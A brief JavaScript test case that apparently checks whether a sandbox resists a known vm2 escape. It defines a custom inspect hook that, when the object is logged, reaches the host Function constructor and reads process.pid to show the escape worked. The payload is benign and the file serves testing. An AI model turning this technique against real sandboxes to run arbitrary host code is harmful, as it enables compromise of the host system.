// Prints an object with an inspect hook, which Node calls with functions of its own.
// Class: proxies and traps
// Advisory: GHSA-47x8-96vw-5wg6 (vm2: nodejs.util.inspect.custom crosses the border)
// Win: the id holds the process id.
// Control: vm
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  const spy = {
    [Symbol.for('nodejs.util.inspect.custom')](_depth, _options, inspect) {
      options.responseData[0].id = 'ESCAPED:' + inspect.constructor('return process.pid')();
      return '';
    },
  };
  console.log(spy);
  console.log('%o', spy);
  return options.responseData;
}
